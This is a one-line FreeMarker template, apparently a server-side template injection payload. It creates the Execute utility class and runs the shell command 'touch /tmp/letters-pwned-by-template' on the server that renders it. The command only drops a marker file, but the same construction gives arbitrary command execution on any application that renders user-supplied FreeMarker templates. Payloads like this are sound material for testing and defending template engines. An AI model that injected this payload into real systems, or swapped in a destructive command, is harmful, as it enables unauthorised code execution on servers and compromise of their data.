<#assign run = "freemarker.template.utility.Execute"?new()>${run("touch /tmp/letters-pwned-by-template")}
